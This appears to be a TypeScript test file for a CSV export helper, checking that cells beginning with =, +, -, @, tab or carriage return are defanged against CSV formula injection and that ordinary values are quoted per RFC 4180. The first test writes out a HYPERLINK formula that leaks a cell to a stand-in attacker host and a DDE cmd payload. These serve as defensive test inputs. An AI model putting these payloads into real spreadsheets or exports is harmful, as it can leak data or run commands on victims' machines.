// CSV cells as a spreadsheet reads them: text stays text, a formula never runs.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { csvCell, csvRows } from './csv';

test('attack: an ack note =HYPERLINK(...) leaves the CSV export as text, not a live formula (OWASP CSV injection)', () => {
  const note = '=HYPERLINK("http://evil.example/?leak="&A1, "click me")';
  // Written out by hand: quoted, a leading apostrophe, inner quotes doubled.
  assert.equal(csvCell(note), '"\'=HYPERLINK(""http://evil.example/?leak=""&A1, ""click me"")"');
  for (const start of ['=', '+', '-', '@', '\t', '\r']) {
    const cell = csvCell(`${start}cmd|' /C calc'!A0`);
    assert.ok(cell.startsWith(`"'${start}`), `${JSON.stringify(start)} → ${cell}`);
  }
});

test('ordinary cells are unchanged, and separators are quoted as RFC 4180 says', () => {
  assert.equal(csvCell('沪D·A1234'), '沪D·A1234');
  assert.equal(csvCell(42), '42');
  assert.equal(csvCell(null), '');
  assert.equal(csvCell('a,b'), '"a,b"');
  assert.equal(csvCell('say "hi"'), '"say ""hi"""');
  assert.equal(csvCell('two\nlines'), '"two\nlines"');
  assert.equal(csvCell('a=b'), 'a=b', 'only a leading = is a formula');
  assert.equal(
    csvRows([
      ['a', 'b'],
      ['=1+1', 'c'],
    ]),
    'a,b\r\n"\'=1+1",c\r\n',
  );
});
